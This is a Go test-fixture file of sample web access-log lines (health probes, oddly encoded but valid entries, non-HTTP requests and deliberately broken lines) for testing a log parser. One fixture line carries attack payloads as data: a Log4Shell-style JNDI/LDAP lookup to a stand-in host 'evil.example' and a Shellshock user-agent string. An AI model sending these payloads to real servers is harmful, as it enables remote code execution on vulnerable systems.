package weblog

// probes are health checks, which are no traffic.
var probes = []string{
	`10.0.0.7 - - [$t] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.33"`,
	`10.0.0.7 - - [$t] "GET /readyz HTTP/1.1" 200 2 "-" "kube-probe/1.33"`,
	`10.0.3.1 - - [$t] "GET / HTTP/1.1" 200 612 "-" "ELB-HealthChecker/2.0"`,
	`10.0.0.7 - - [$t] "GET /healthz HTTP/1.1" 503 19 "-" "kube-probe/1.33"`,
}

// odd are the lines that parsers get wrong: $c stands for a client, $t for the time.
var odd = []string{
	// Good lines that look bad.
	`$c - - [$t] "GET /quote HTTP/1.1" 200 512 "-" "Mozilla/5.0 (\"quoted\" agent)"`,
	`$c - - [$t] "GET /quote HTTP/1.1" 200 512 "-" "Mozilla/5.0 (\x22quoted\x22 agent)"`,
	`$c - - [$t] "GET /slash HTTP/1.1" 200 512 "-" "C:\\browser\\"`,
	"$c - - [$t] \"GET /latin1 HTTP/1.1\" 200 512 \"-\" \"Navigateur fran\xe7ais \xff\xfe\"",
	`$c - - [$t] "GET /caf\xC3\xA9 HTTP/1.1" 200 512 "-" "Mozilla/5.0 (\xE2\x82\xAC)"`,
	"$c - - [$t] \"GET /utf8/\u65e5\u672c\u8a9e HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0 (\u20ac)\"",
	`$c - - [$t] "GET / HTTP/1.1" 200 512`,
	`$c - - [$t] "GET / HTTP/1.1" 304 -`,
	`$c - - [$t] "GET /crlf HTTP/1.0" 200 5 "-" "-"` + "\r",
	`fe80::1%eth0 - - [10/Oct/2025:23:59:60 +0930] "GET /leap HTTP/1.1" 200 7 "-" "curl/8.15.0"`,
	`::ffff:192.0.2.33 ident al.ice [$t] "DELETE /orders/9 HTTP/1.1" 204 0 "-" "curl/8.15.0"`,
	`crawl-66-249-66-1.example.com - - [$t] "GET /robots.txt HTTP/1.1" 200 68 "-" "Googlebot/2.1"`,
	`$c - - [$t] "GET /forwarded HTTP/1.1" 200 68 "-" "Mozilla/5.0" "198.51.100.7, 10.0.0.1" 0.004`,
	// Requests that are not HTTP, in good lines.
	`$c - - [$t] "-" 408 - "-" "-"`,
	`$c - - [$t] "" 400 0 "-" "-"`,
	`$c - - [$t] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-"`,
	"$c - - [$t] \"\x16\x03\x01\x00\xa5\x01\" 400 157 \"-\" \"-\"",
	`$c - - [$t] "GET /" 200 512 "-" "-"`,
	`$c - - [$t] "GET /two words HTTP/1.1" 404 12 "-" "-"`,
	`$c - - [$t] "PROPFIND / HTTP/1.1" 405 166 "-" "-"`,
	`$c - - [$t] "CONNECT example.com:443 HTTP/1.1" 405 166 "-" "-"`,
	`$c - - [$t] "GET /?x=$(jndi:ldap://evil.example/a) HTTP/1.1" 404 12 "-" "() { :; }; echo x"`,
	`$c - - [$t] "SSH-2.0-Go" 400 157 "-" "-"`,
	// Broken lines.
	`$c - - [$t] "GET /broken HTTP/1.1" 200 512 "-" "Mozilla "unescaped" agent"`,
	`$c - - [$t] "GET /open HTTP/1.1" 200 512 "-" "Mozilla/5.0 (never closed`,
	`$c - - [$t] "GET /cut HTTP/1.1" 20`,
	`$c - - [$t`,
	``,
	`$c - - [99/Oct/2025:13:55:36 +0000] "GET / HTTP/1.1" 200 512 "-" "-"`,
	`$c - - [2025-10-10T13:55:36Z] "GET / HTTP/1.1" 200 512 "-" "-"`,
	`$c - - [$t] "GET / HTTP/1.1" 2x0 512 "-" "-"`,
	`$c - - [$t] "GET / HTTP/1.1" 200 many "-" "-"`,
	"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
	`2025/10/10 13:55:36 [error] 31#31: *1 open() "/favicon.ico" failed (2: No such file or directory)`,
	`$c - - [$t] "GET /a HTTP/1.1" 200 51$c - - [$t] "GET /b HTTP/1.1" 200 512 "-" "-"`,
}
